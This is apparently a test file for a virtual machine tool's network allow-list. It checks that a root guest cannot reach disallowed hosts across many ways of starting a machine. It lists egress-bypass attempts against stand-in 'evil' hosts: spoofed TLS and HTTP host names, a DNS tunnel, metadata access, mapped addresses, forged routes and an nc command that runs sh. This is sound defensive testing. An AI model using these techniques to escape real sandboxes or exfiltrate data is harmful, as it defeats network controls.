import { beforeAll, describe, expect } from "bun:test";
import { writeFileSync } from "node:fs";
import { helloOf } from "../../src/net/policy/first-bytes.fixture.ts";
import type { Home } from "../support/home.ts";
import { SMALL } from "../support/machines.ts";
import { OrdinaryMachines } from "../support/ordinary.ts";
import { CLOSED, EVIL, EVIL2, EVIL3, INNER, OUTER } from "../support/outside/addresses.ts";
import { useOutside } from "../support/outside/outside.ts";
import { Talking } from "../support/process.ts";
import { onBoth, onQemu } from "../support/register.ts";

/** What a guest with root tries to get around a list, on every way on which a machine is started. */

const outside = useOutside();

const DNS = ["--dns", "127.0.0.1:5353"];
const LIST = [...DNS, "--allow-host", "allowed.test"];

let hello = { good: "", evil: "" };
beforeAll(async () => {
  const base64 = async (name: string) => (await helloOf(name)).toString("base64");
  hello = { good: await base64("allowed.test"), evil: await base64("evil.test") };
});

/** What is tried, and by which commands: the next group when all of one are through. */
function groups(): readonly Record<string, string>[] {
  const raw = (address: string, port: number, text: string) =>
    `printf '${text}' | nc -w 3 ${address} ${port} | tail -n 1`;
  const request = (host: string) => `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`;
  const tls = (address: string, base64: string) =>
    `echo ${base64} | base64 -d | nc -w 3 ${address} 443 | tail -n 1`;
  const get = (url: string) => `wget -T 3 -qO- ${url}`;
  // Ends with the answer or the refusal: a limit would be either too short or waited for.
  const udp = (address: string, port: number) =>
    `timeout 30 nc -u ${address} ${port} -e sh -c 'echo hi; head -n 1 >&9' 9>&1`;
  const early = { [EARLY]: get(`http://${OUTER}:8080/`) };
  const first = { "the allowed name": get("http://allowed.test/") };
  const together = {
    "the same on another port": get("http://allowed.test:8080/"),
    "its address": get(`http://${OUTER}:8080/`),
    "its UDP": udp(OUTER, 5000),
    "TLS with its name": tls(OUTER, "$GOOD"),
    "a chain of names": get("http://www.allowed.test:8080/"),
    "another name": get("http://evil.test:8080/"),
    "another address": get(`http://${EVIL}:8080/`),
    "TLS with another name": tls(OUTER, "$EVIL"),
    "TLS without a name": raw(OUTER, 443, "\\026\\003\\001"),
    "HTTP with another name": raw(OUTER, 80, request("evil.test")),
    "HTTP with two names": raw(
      OUTER,
      80,
      `GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: evil.test\\r\\n\\r\\n`,
    ),
    "HTTP through a proxy's words": raw(
      OUTER,
      80,
      "GET http://evil.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
    ),
    "SSH on 443": raw(OUTER, 443, "SSH-2.0-x\\r\\n"),
    QUIC: udp(OUTER, 443),
    "an own DNS server": `nslookup evil.test ${EVIL} | grep Name`,
    "an own DNS server over TCP": `${get(`http://${EVIL}:53/`)}`,
    "DNS over TLS": get(`http://${EVIL}:853/`),
    "a tunnel of questions": "nslookup -type=txt secret.data.evil.test | grep text",
    "a name that leads inside": get("http://rebind.allowed.test:8080/"),
    metadata: get(`http://${CLOSED}/`),
    "the host's loopback": get("http://100.96.0.1:8080/"),
    "the host by its name": get("http://host.smolvm.internal:8080/"),
    "the gateway as a proxy": raw("100.96.0.1", 8080, request("evil.test")),
    "a mapped address": `nc -w 2 ::ffff:${INNER} 8080 </dev/null && echo open`,
    "a NAT64 address": "nc -w 2 64:ff9b::a09:909 8080 </dev/null && echo open",
    ping: `ping -c 1 -W 2 ${EVIL} | grep 'bytes from'`,
    "another source": `ip addr add 192.0.2.9/32 dev eth0; echo | nc -w 3 -s 192.0.2.9 ${OUTER} 8080`,
    "a route of its own": `ip route add ${EVIL2}/32 dev eth0; ${get(`http://${EVIL2}:8080/`)}`,
    "a neighbour of its own": `ip route add ${EVIL3}/32 dev eth0; ip neigh add ${EVIL3} lladdr 02:53:4d:00:00:01 dev eth0; ${get(`http://${EVIL3}:8080/`)}`,
  };
  // Its name has been asked for by now.
  const last = { "where it leads": get(`http://${INNER}:8080/`) };
  return [early, first, together, last];
}

const tried = () => groups().flatMap((group) => Object.keys(group));

/** Prints what was tried, and what came of it, a line each. */
function script(): string {
  let count = 0;
  const start = (command: string) => `{ ${command}; } >$d/${count++} 2>/dev/null &`;
  return [
    ...[`GOOD=${hello.good}`, `EVIL=${hello.evil}`, "d=$(mktemp -d)"],
    ...groups().flatMap((group) => [...Object.values(group).map(start), "wait"]),
    ...tried().map((name, index) => `r=$(cat $d/${index}); r=$(echo $r); echo "${name}: \${r:-no}"`),
    "echo end",
  ].join("\n");
}

const OPEN = {
  "the allowed name": `served by ${OUTER}`,
  "the same on another port": `served by ${OUTER}`,
  "its address": `served by ${OUTER}`,
  "its UDP": "echo hi",
  "TLS with its name": `served by ${OUTER}`,
  "a chain of names": "served by 203.0.113.11",
};

/** Open when somebody has asked for the name a minute ago. */
const EARLY = "address, before its name was asked for";

/**
 * All that came of it is what was allowed, and nobody was asked about what was not.
 *
 * @param again the machine has asked for the names before
 */
function check(output: string, again = false): void {
  const lines = output.trim().split("\n");
  expect(lines.pop()).toBe("end");
  const results = lines.map((line) => line.split(/: (.*)/s, 2) as [string, string]);
  expect(results.map(([name]) => name)).toEqual(tried());
  const open = results.filter(([name, result]) => result !== "no" && !(again && name === EARLY));
  expect(Object.fromEntries(open)).toEqual(OPEN);
  expect(outside.questions.filter((question) => /evil|secret|leaked/.test(question))).toEqual([]);
}

const LIMIT = 180;

// What waits in a guest for an answer that never comes leaves the processor to the others.
describe.concurrent("a list of names holds against a guest with root", () => {
  const inOneCommand = async (home: Home) => {
    const { output, exitCode, stderr } = await home.run(["sh", "-c", script()], {
      options: LIST,
      seconds: LIMIT,
    });
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: "" });
    check(output);
  };
  onBoth("in a machine that lives for one command", () => inOneCommand(outside), LIMIT);
  onQemu(
    "in such a machine of an ordinary user of the host",
    async () => {
      const ordinary = new OrdinaryMachines(() => outside.inside());
      try {
        await inOneCommand(ordinary);
        await ordinary.expectNothingLeft();
      } finally {
        ordinary.remove();
      }
    },
    LIMIT,
  );

  onQemu(
    "in a machine that was made and started, at its next start, in its copy; with its image, which the cache has, from a Smolfile, from that one's pack, and in a machine made of the pack",
    async () => {
      const lasting = async (name: string) => {
        await outside.ok("start", name);
        check(await outside.sh(name, script()));
        await outside.ok("stop", name);
      };
      const once = async (...words: string[]) => {
        const behind = ["-q", ...SMALL, ...DNS, "--", "sh", "-c", script()];
        const { output, exitCode, stderr } = await outside.smolvm([...words, ...behind], { seconds: LIMIT });
        expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: "" });
        check(output);
      };
      await outside.create("box", ...LIST);
      await lasting("box");
      await outside.ok("clone", "box", "copy");
      await outside.ok("commit", "box", "policy-test:box");
      const [smolfile, pack] = [`${outside.path}/Smolfile`, `${outside.path}/app.smolmachine`];
      const list = ["net = true", "[network]", 'allow_hosts = ["allowed.test"]'];
      writeFileSync(smolfile, ['image = "policy-test:box"', ...list, ""].join("\n"));
      const packed = await outside.smolvm([
        ...["pack", "create", "-s", smolfile, "--no-runtime", "-o", `${outside.path}/app`],
      ]);
      expect(packed).toMatchObject({ exitCode: 0 });
      await outside.create("packed", "--from", pack, ...DNS);
      await Promise.all([
        ...["box", "copy", "packed"].map(lasting),
        once("machine", "run", "-s", smolfile),
        once("pack", "run", "--sidecar", pack),
      ]);
      await outside.ok("delete", "-f", "box", "copy", "packed");
      await outside.smolvm(["images", "rm", "policy-test:box"]);
    },
    LIMIT * 2,
  );

  onQemu(
    "as the machine's own command, in its init commands, and after the guest has started anew",
    async () => {
      await outside.ok(
        "run",
        "-d",
        "--name",
        "job",
        ...SMALL,
        ...LIST,
        "--init",
        `{ ${script()}\n} >/root/init.txt`,
        "--restart",
        "always",
        "--",
        "sh",
        "-c",
        `{ ${script()}\n} >/root/$(cat /proc/sys/kernel/random/boot_id).txt; exec sleep 1000`,
      );
      check(await outside.sh("job", "cat /root/init.txt"));
      const finished =
        "while ! ls /root/*-*.txt >/dev/null 2>&1 || ! grep -q '^end' /root/$(cat /proc/sys/kernel/random/boot_id).txt; do sleep 1; done; cat /root/$(cat /proc/sys/kernel/random/boot_id).txt";
      check(await outside.sh("job", finished), true);
      await outside.powerCut("job");
      check(await outside.sh("job", finished), true);
      await outside.ok("delete", "-f", "job");
    },
    LIMIT * 2,
  );

  onQemu(
    "in a machine that was made, started and used over HTTP",
    async () => {
      const server = new Talking(outside.start(["serve", "start"]));
      expect(await server.line()).toContain("listening on");
      const post = async (path: string, json: object) => {
        const answer = await fetch(`http://localhost/api/v1/machines${path}`, {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify(json),
          unix: `${outside.env.XDG_RUNTIME_DIR}/smolvm.sock`,
        });
        if (!answer.ok) throw new Error(`${path}: ${answer.status} ${await answer.text()}`);
        return await answer.json();
      };
      const network = { dns: ["127.0.0.1:5353"], allowedHosts: ["allowed.test"] };
      try {
        await post("", { name: "served", cpus: 1, memoryMb: 256, ...network });
        await post("/served/start", {});
        const answer = await post("/served/exec", { command: ["sh", "-c", script()] });
        check((answer as { stdout: string }).stdout);
        await outside.ok("delete", "-f", "served");
      } finally {
        server.child.kill();
        await server.child.exited;
      }
    },
    LIMIT,
  );
});

describe("other policies", () => {
  const get = (url: string) => `wget -T 3 -qO- ${url} 2>/dev/null || echo no`;
  const tries = async (options: string[], ...commands: string[]) => {
    const { output, stderr, exitCode } = await outside.run(["sh", "-c", commands.join("; ")], {
      options: [...DNS, ...options],
    });
    expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: "" });
    return output.trim().split("\n");
  };
  const served = (address: string) => `served by ${address}`;

  onQemu("the whole network leaves out what is closed", async () => {
    expect(
      await tries(
        ["--net"],
        get(`http://${EVIL}/`),
        get("http://evil.test/"),
        get(`http://${INNER}/`),
        get(`http://${CLOSED}/`),
        get("http://100.96.0.1/"),
        get("http://[2001:db8::10]/"),
      ),
    ).toEqual([served(EVIL), served(EVIL), served(INNER), "no", "no", "served by 2001:db8::10"]);
  });

  onQemu("ranges judge addresses, and leave names alone", async () => {
    expect(
      await tries(
        ["--allow-cidr", `${INNER}/8:8080`],
        "nslookup evil.test | grep -c 198.51",
        get(`http://${INNER}:8080/`),
        get(`http://${INNER}/`),
        get("http://evil.test/"),
      ),
    ).toEqual(["1", served(INNER), "no", "no"]);
  });

  onQemu("this host's loopback, when it is meant", async () => {
    expect(
      await tries(
        ["--outbound-localhost-only"],
        get("http://host.smolvm.internal:8080/"),
        get(`http://${EVIL}/`),
        "nslookup evil.test >/dev/null || echo unknown",
      ),
    ).toEqual([served("127.0.0.1"), "no", "unknown"]);
  });

  onQemu("no network at all without a word about it, and nothing outside with a port alone", async () => {
    const { output } = await outside.run(["ls", "/sys/class/net"]);
    expect(output.split(/\s+/)).not.toContain("eth0");
    const ports = await outside.run(
      [
        "sh",
        "-c",
        `ls /sys/class/net; ${get(`http://${EVIL}/`)}; nslookup allowed.test >/dev/null || echo unknown`,
      ],
      { options: ["-p", "0:80"] },
    );
    expect(ports.output).toMatch(/eth0[\s\S]*no\nunknown\n$/);
  });

  onQemu("what is said about server names, and names with addresses of their own", async () => {
    const evil = `echo ${hello.evil} | base64 -d | nc -w 3 ${OUTER} 443 | tail -n 1`;
    expect(
      await tries(
        ["--allow-host", "allowed.test", "--no-sni-check", "--add-host", `db:${INNER}`, "--allow-host", "db"],
        "nslookup allowed.test >/dev/null",
        evil,
        get("http://db:8080/"),
      ),
    ).toEqual([served(OUTER), served(INNER)]);
  });
});

describe("a list that changes while the machine runs", () => {
  onQemu("holds from that moment on", async () => {
    const evil = "wget -T 3 -qO- http://evil.test:8080/ 2>/dev/null || echo no";
    await outside.create("live", ...LIST);
    await outside.ok("start", "live");
    expect(await outside.sh("live", evil)).toBe("no\n");
    expect(await outside.ok("update", "live", "--allow-host", "evil.test:8080")).toEndWith(
      "Changes have taken effect\n",
    );
    expect(await outside.sh("live", evil)).toBe(`served by ${EVIL}\n`);
    await outside.ok("update", "live", "--remove-allow-host", "evil.test:8080");
    expect(await outside.sh("live", evil)).toBe("no\n");
    // Also the address that was opened before.
    expect(await outside.sh("live", `wget -T 3 -qO- http://${EVIL}:8080/ 2>/dev/null || echo no`)).toBe(
      "no\n",
    );
    expect(await outside.refusal("update", "live", "--no-net")).toMatchObject({ code: "machine.running" });
    outside.questions.length = 0;
    await outside.ok("delete", "-f", "live");
  });
});

describe("what was decided", () => {
  onQemu("is in the log, explained, and becomes a list", async () => {
    await outside.ok(
      "run",
      "-d",
      "--name",
      "log",
      ...SMALL,
      ...DNS,
      "--egress",
      "learn",
      "--",
      "sh",
      "-c",
      "exec sleep 1000",
    );
    await outside.sh(
      "log",
      `wget -T 3 -qO- http://allowed.test/ && wget -T 3 -qO- http://${EVIL}:8080/ && ! wget -T 3 -qO- http://${CLOSED}/ 2>/dev/null
       ! wget -T 3 -qO- http://${EVIL}:8089/ 2>/dev/null`,
    );
    const events = JSON.parse(await outside.ok("egress-events", "--json", "log"));
    expect(events).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          operation: "lookup",
          dest: "allowed.test",
          decision: "allow",
          addresses: [OUTER],
        }),
        expect.objectContaining({
          operation: "connect",
          dest: `${OUTER}:80`,
          name: "allowed.test",
          decision: "allow",
          rule: "--net",
        }),
        expect.objectContaining({
          operation: "close",
          dest: `${OUTER}:80`,
          received: expect.any(Number),
          end: "closed",
        }),
        expect.objectContaining({
          operation: "connect",
          dest: `${CLOSED}:80`,
          decision: "deny",
          rule: "closed: metadata",
        }),
      ]),
    );
    expect(await outside.ok("egress-events", "--denied", "log")).toMatch(
      /connect\s+deny\s+169\.254\.169\.254:80 by closed: metadata\n$/,
    );
    expect(await outside.ok("policy", "learned", "log")).toBe(
      `[network]\nallow_hosts = [\n  "allowed.test:80/tcp",\n]\nallow_cidrs = [\n  "${EVIL}:8080/tcp",\n]\n# Tried, and nobody answered:\n#   ${EVIL}:8089/tcp\n`,
    );
    expect(await outside.ok("policy", "explain", "log", "example.com:443")).toContain(
      "tcp 443   allowed by --net",
    );
    const denied = await outside.machine(["policy", "explain", "log", CLOSED]);
    expect(denied).toMatchObject({ exitCode: 1 });
    await outside.ok("delete", "-f", "log");
  });
});
